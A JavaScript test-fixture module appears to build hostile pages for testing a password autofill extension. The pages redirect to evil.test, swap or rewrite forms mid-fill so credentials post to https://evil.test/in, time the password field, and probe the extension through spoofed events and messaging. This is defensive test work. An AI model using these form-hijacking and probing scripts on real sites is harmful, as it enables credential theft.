/** What scripts of a page do: read the field, swap the document, fake events, and look for what is not the page's own. */
import { form, html } from './page.mjs';

const CHANGED = /changed|disappeared|evil\.test/;

/** A9 and A11: the page is another one by the time of the fill. @type {Record<string, {what: string, told: RegExp, late?: boolean, body: string}>} */
export const cases = {
	'a09-script': { what: 'a page that goes on to another host by itself', told: /evil\.test/,
		body: '<script>location.replace("https://evil.test/login");</script>' },
	'a11-written': { what: 'a document that is written anew while it is filled', told: CHANGED, late: true,
		body: `${form()}<script>addEventListener('input', () => {
	document.open();
	document.write(${JSON.stringify(form({ action: 'https://evil.test/in' }))});
	document.close();
}, { once: true });</script>` },
	'a11-replaced': { what: 'a form that another one takes the place of while it is filled', told: CHANGED, late: true,
		body: `${form()}<script>addEventListener('input', () => {
	const other = document.forms[0].cloneNode(true);
	other.action = 'https://evil.test/in';
	document.forms[0].replaceWith(other);
}, { once: true });</script>` },
	'a11-at-once': { what: 'a form whose address changes as soon as it was found', told: CHANGED, late: true,
		body: `${form()}<script>addEventListener('focusin', () => { document.forms[0].action = 'https://evil.test/in'; });</script>` },
};

/** Says how long a value stood in the password field. */
const CLOCK = `<script>
let since = 0;
const field = () => document.querySelector('[type="password"]');
setInterval(() => { if (!since && field().value) since = performance.now(); }, 1);
addEventListener('pagehide', () => navigator.sendBeacon('/stood', String(since ? performance.now() - since : 0)));
</script>`;

/** Says what was put into the page: into the document, its styles, the names that its scripts see. */
const MIRROR = `<script>
const before = new Set(Object.getOwnPropertyNames(window));
const seen = [];
const styles = () => document.styleSheets.length + document.adoptedStyleSheets.length;
const sheets = styles();
const take = (records) => records.forEach(({ type, target, attributeName, addedNodes }) =>
	seen.push([type, target.nodeName, attributeName, ...[...addedNodes].map((node) => node.nodeName)].join(' ')));
let observer;
addEventListener('load', () => {
	observer = new MutationObserver(take);
	observer.observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
});
addEventListener('pagehide', () => {
	take(observer.takeRecords());
	const names = Object.getOwnPropertyNames(window).filter((name) => !before.has(name) && !['observer', 'seen', 'take', 'styles', 'sheets'].includes(name));
	navigator.sendBeacon('/mirror', JSON.stringify({ seen, names, styles: styles() - sheets }));
});
</script>`;

/**
 * A12: everything by which a page could try to speak to the extension whose address stands in the query;
 * what came of it is left in `window.tried`.
 */
const KNOCK = `${form({ onsubmit: 'return false' })}<script>
const root = new URLSearchParams(location.search).get('root');
const id = new URL(root).host;
const app = 'right';
const messages = [{ type: 'launch', app_id: app, label: '', host: '', access: [] }, { type: 'view.get' }, { type: 'redeem', grant: 'x' },
	{ event: 'launch.requested', app_id: app }];
const tried = {};
const attempt = async (name, act) => {
	try {
		tried[name] = String(await act() ?? 'nothing');
	} catch (error) {
		tried[name] = 'refused: ' + error.name;
	}
};
const reply = (send, message) => new Promise((resolve, reject) => {
	const timer = setTimeout(() => resolve('no answer'), 1500);
	send(id, message, (answer) => { clearTimeout(timer); resolve(answer === undefined ? 'no answer' : 'ANSWER'); });
});
const loads = (tag, key, path) => new Promise((resolve) => {
	const element = Object.assign(document.createElement(tag), { onload: () => resolve('LOADED'), onerror: () => resolve('refused') });
	element[key] = root + path;
	document.head.append(element);
});
const framed = () => new Promise((resolve) => {
	const frame = document.createElement('iframe');
	frame.onload = () => resolve(frame.contentWindow.length > 0 ? 'LOADED' : 'shows nothing of it');
	frame.onerror = () => resolve('refused');
	frame.src = root + 'popup/popup.html';
	document.body.append(frame);
	setTimeout(() => resolve('no answer'), 3000);
});
addEventListener('load', async () => {
	const field = document.querySelector('[type="password"]');
	for (const target of [window, document, document.forms[0], field, document.querySelector('button')]) {
		for (const type of ['click', 'dblclick', 'contextmenu', 'focus', 'input', 'change', 'autofill', 'swa-agent', 'swa-agent.fill'])
			target.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, cancelable: true }));
		for (const key of ['Enter', 'W']) target.dispatchEvent(new KeyboardEvent('keydown', { key, altKey: true, shiftKey: true, bubbles: true }));
		for (const message of messages) target.dispatchEvent(new CustomEvent(message.type ?? message.event, { detail: message, bubbles: true }));
	}
	for (const message of messages) {
		postMessage(message, '*');
		new BroadcastChannel('swa-agent').postMessage(message);
		await attempt('sendMessage ' + (message.type ?? message.event), () => reply(chrome.runtime.sendMessage, message));
		await attempt('browser.sendMessage ' + (message.type ?? message.event), () => browser.runtime.sendMessage(id, message));
	}
	await attempt('connect', () => chrome.runtime.connect(id) && 'CONNECTED');
	for (const path of ['manifest.json', 'popup/popup.html', 'fill/fill.js', 'icons/48.png'])
		await attempt('fetch ' + path, async () => (await fetch(root + path)).status);
	await attempt('script', () => loads('script', 'src', 'fill/dom.js'));
	await attempt('picture', () => loads('img', 'src', 'icons/48.png'));
	await attempt('frame', framed);
	await attempt('name of the scripts', () => (globalThis[Symbol.for('swa-agent.fill')] ? 'FOUND' : 'nothing'));
	window.tried = tried;
	document.title = 'Knocked';
});
</script>`;

/** @type {Record<string, import('./page.mjs').Page>} */
export const pages = {
	...Object.fromEntries(Object.entries(cases).map(([name, { what, body, late }]) => [name, { html: html(what, body, { spy: !late }) }])),
	'a02': { html: html('A script reads what is filled', form({ action: '/in' }) + CLOCK) },
	'a09-back': { html: html('And back again', '<script>addEventListener("load", () => location.replace("https://right.test/login"));</script>') },
	'a09-at-once': { html: html('And back at once', '<script>location.replace("https://right.test/unwatched");</script>') },
	'unwatched': { html: html('Sign in', form(), { spy: false }) },
	'a12': { html: html('Knocking', KNOCK) },
	'a13': { html: html('A mirror', form() + MIRROR, { spy: false }) },
};
